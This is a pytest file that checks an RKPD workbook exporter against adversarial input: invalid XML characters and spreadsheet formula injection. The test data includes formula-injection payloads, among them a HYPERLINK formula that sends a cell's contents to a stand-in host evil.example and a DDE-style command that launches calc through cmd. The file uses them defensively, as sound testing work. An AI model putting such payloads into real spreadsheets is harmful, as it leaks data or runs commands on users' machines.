"""Issue #18, findings 3 and 4: the published RKPD workbook after adversarial input.

A desa operator's `gagasan` with U+FFFF wrote a worksheet that is not XML (finding 3); text that
starts with "=" in the rows openpyxl writes (the summary's OPD names from an import, titles, the
notes sheet) became a live formula (finding 4). The door refuses such text now (domainkit.text),
and the writer still defends itself: every worksheet parses as XML and no cell is a formula.
"""
from __future__ import annotations

import copy
import zipfile
import xml.etree.ElementTree as ET

import openpyxl
import pytest

from rkpd.render.model import build_view
from rkpd.render.xlsx import write_xlsx
from rkpd_render_fixtures import make_document

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
            "=1+1"]
BROKEN = "Drainase \uffff\ufffe \x01\x0b\x1b[31m selesai"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def adversarial_document() -> dict:
    doc = copy.deepcopy(make_document(n_usulan=6, n_pokir=4))
    doc["pemda_nama"] = FORMULAS[0]  # titles of every sheet, the notes sheet
    doc["versi"] = FORMULAS[1]
    for i, u in enumerate(doc["lampiran"]["usulan"]):  # the streamed rows
        u["gagasan"] = BROKEN if i % 2 else FORMULAS[i % len(FORMULAS)]
        u["desa_nama"] = FORMULAS[(i + 1) % len(FORMULAS)]
        u["alasan"] = BROKEN
    for i, p in enumerate(doc["lampiran"]["pokir"]):
        p["judul"] = FORMULAS[i % len(FORMULAS)] + BROKEN
    for i, o in enumerate(doc["ringkasan"]["per_opd"]):  # rows written through openpyxl (OPD names from an import)
        o["nama"] = FORMULAS[i % len(FORMULAS)]
    for i, k in enumerate(doc["ringkasan"]["per_kecamatan"]):
        k["nama"] = FORMULAS[(i + 2) % len(FORMULAS)] + "\uffff"
    for i, row in enumerate(doc["tabel_v"]["baris"][:10]):
        row["uraian"] = FORMULAS[i % len(FORMULAS)] + "\uffff"
    return doc


@pytest.fixture(scope="module")
def workbook_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("adversarial") / "rkpd.xlsx"
    write_xlsx(build_view(adversarial_document()), path)
    return path


def test_every_worksheet_is_well_formed_xml_after_adversarial_input(workbook_path):
    with zipfile.ZipFile(workbook_path) as archive:
        parts = [n for n in archive.namelist() if n.endswith(".xml") or n.endswith(".rels")]
        assert any(n.startswith("xl/worksheets/") for n in parts)
        for name in parts:
            ET.fromstring(archive.read(name))  # expat refuses U+FFFF, U+FFFE and C0 controls: ParseError
            assert "\uffff" not in archive.read(name).decode("utf-8"), name
    openpyxl.load_workbook(workbook_path)  # and it opens


def test_no_cell_of_the_workbook_is_a_formula(workbook_path):
    with zipfile.ZipFile(workbook_path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = ET.fromstring(archive.read(name))
                formulas = [c.get("r") for c in root.iter(f"{MAIN}c") if c.find(f"{MAIN}f") is not None]
                assert formulas == [], (name, formulas[:5])
    book = openpyxl.load_workbook(workbook_path)
    seen = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "@", "+")):
                    seen.add(ws.title)
    # the adversarial text is there, as text, on the openpyxl-written sheets and the streamed ones
    assert {"Ringkasan", "Keterangan", "Lampiran Usulan", "Tabel V"} <= seen


def test_plain_text_is_written_as_it_was(tmp_path):
    """The writer's defence changes adversarial text only: plain names and titles are the same
    cells as before (the demo's RKPD hash stays)."""
    write_xlsx(build_view(make_document(hostile=False)), tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    values = [c.value for row in book["Keterangan"].iter_rows() for c in row]
    assert "Kabupaten Padang Lawas (12.21)" in values
    assert book["Tabel V"]["A1"].value == "RENCANA KERJA PEMERINTAH DAERAH (RKPD) TAHUN 2027"
